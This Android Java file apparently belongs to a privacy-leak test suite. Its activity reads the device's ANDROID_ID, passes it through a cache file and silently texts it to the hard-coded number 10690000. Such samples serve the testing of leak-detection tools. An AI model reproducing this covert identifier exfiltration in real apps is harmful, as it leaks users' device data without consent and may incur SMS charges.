package cn.privlens.suite.cache_file;

import android.app.Activity;
import android.os.Bundle;
import android.provider.Settings;
import android.telephony.SmsManager;
import java.io.File;
import java.io.FileInputStream;
import java.io.FileOutputStream;
import java.io.IOException;

public class Main extends Activity {
    private File at(String name) { return new File(getCacheDir(), name); }
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        try {
            FileOutputStream out = new FileOutputStream(at("甲"));
            out.write(Settings.Secure.getString(getContentResolver(), Settings.Secure.ANDROID_ID).getBytes());
            out.close();
            FileOutputStream two = new FileOutputStream(at("乙"));
            two.write(1);
            two.close();
            FileInputStream in = new FileInputStream(at("甲"));
            byte[] b = new byte[64];
            int n = in.read(b);
            in.close();
            SmsManager.getDefault().sendTextMessage("10690000", null, new String(b, 0, n), null, null);
        } catch (IOException e) {
            setTitle("e");
        }
    }
}
